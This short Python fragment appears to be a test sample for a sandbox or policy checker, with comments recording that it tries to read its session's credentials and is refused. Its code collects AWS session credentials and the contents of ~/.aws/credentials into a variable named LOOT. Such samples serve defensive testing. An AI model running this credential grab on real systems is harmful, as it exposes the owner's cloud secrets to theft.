# Tries: to read the credentials of its session
# Refused: attribute
LOOT = aws.get_credentials().get_frozen_credentials()
LOOT = [LOOT, Path(os.path.expanduser("~/.aws/credentials")).read_text()]
